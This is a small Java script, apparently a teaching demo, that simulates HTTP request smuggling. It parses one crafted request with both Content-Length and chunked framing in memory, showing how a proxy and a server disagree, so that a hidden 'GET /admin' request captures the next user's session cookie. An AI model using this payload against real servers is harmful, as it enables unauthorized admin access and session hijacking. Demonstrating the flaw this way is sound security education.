///usr/bin/env jbang "$0" "$@" ; exit $?
//JAVA 25+
//DESCRIPTION One request with two framing fields, read by two servers

import module java.base;

/** A proxy that counts bytes, in front of a server that counts chunks. */
public class TwoParsers {

    private static final String ATTACK = """
            POST /search HTTP/1.1\r
            Host: shop.test\r
            Content-Length: 46\r
            Transfer-Encoding: chunked\r
            \r
            0\r
            \r
            GET /admin HTTP/1.1\r
            Host: shop.test\r
            X:\s""";
    private static final String VICTIM = """
            GET /basket HTTP/1.1\r
            Host: shop.test\r
            Cookie: session=anna\r
            \r
            """;

    public static void main(String[] args) throws IOException {
        var bytes = (ATTACK + VICTIM).getBytes();
        IO.println("the proxy forwards, on one connection to the server:");
        read(bytes, false);
        IO.println("the server reads on that connection:");
        read(bytes, true);
    }

    private static void read(byte[] bytes, boolean chunks) throws IOException {
        var in = new ByteArrayInputStream(bytes);
        while (in.available() > 0) {
            var head = new ArrayList<String>();
            for (var line = line(in); !line.isEmpty(); line = line(in)) {
                head.add(line);
            }
            IO.println("  " + head.getFirst() + head.stream()
                    .filter(line -> line.matches("(X|Cookie):.*"))
                    .map(line -> "   " + line).collect(Collectors.joining()));
            if (chunks && head.contains("Transfer-Encoding: chunked")) {
                while (!line(in).equals("0")) {
                    line(in);
                }
                line(in);
            } else {
                in.skip(head.stream().filter(line ->
                        line.startsWith("Content-Length: "))
                        .mapToInt(line -> Integer.parseInt(line.substring(16)))
                        .sum());
            }
        }
    }

    private static String line(InputStream in) throws IOException {
        var line = new StringBuilder();
        for (int next = in.read(); next != '\n' && next != -1;
                next = in.read()) {
            line.append((char) next);
        }
        return line.toString().strip();
    }
}
